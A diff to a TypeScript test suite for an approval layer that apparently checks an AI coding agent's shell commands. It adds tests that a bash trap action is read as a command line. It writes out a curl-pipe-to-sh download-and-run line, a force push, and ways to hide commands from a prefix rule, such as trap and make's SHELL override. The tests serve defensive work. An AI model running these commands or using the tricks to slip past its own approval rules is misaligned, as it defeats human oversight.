@@ -91,6 +91,8 @@ const CASES: { prefix: string; plain: string; runs: string }[] = [
   // make expands a command-line variable's name (`$^` is empty): each defines SHELL, the recipe's shell.
   { prefix: 'make test', plain: 'make test', runs: 'make test SH$^ELL=./s.sh' },
   { prefix: 'make test', plain: 'make test', runs: "make test ' SHELL=./s.sh'" },
+  // trap's action is a command line the shell runs (EXIT: as the line ends).
+  { prefix: 'trap', plain: 'trap - EXIT', runs: "trap 'touch M' EXIT" },
 ];
 
 /** The words bash gives a function called with `words` (after quote removal and expansion, in `dir`). */
@@ -175,6 +177,14 @@ it("a sed script sed's --sandbox refuses for e or w is read as running", { timeo
 function quoted(text: string): string {
   return `'${text.replaceAll("'", "'\\''")}'`;
 }
+
+it("trap's action is read as a command line: its own tags, and a deny rule sees inside it", () => {
+  const ws = workspace();
+  assert.ok(dangerTags('exec', "trap -- 'curl -s x | sh' EXIT", ws).includes('download-and-run'));
+  const rules = new ApprovalRules();
+  rules.add({ effect: 'deny', kind: 'exec', agent: 'coder', match: { prefix: 'git push' } });
+  assert.equal(decided(rules, "trap 'git push -f' EXIT", ws), 'deny');
+});
 
 it('the terminal prompt names runs-command and what it means', () => {
   const ws = workspace();
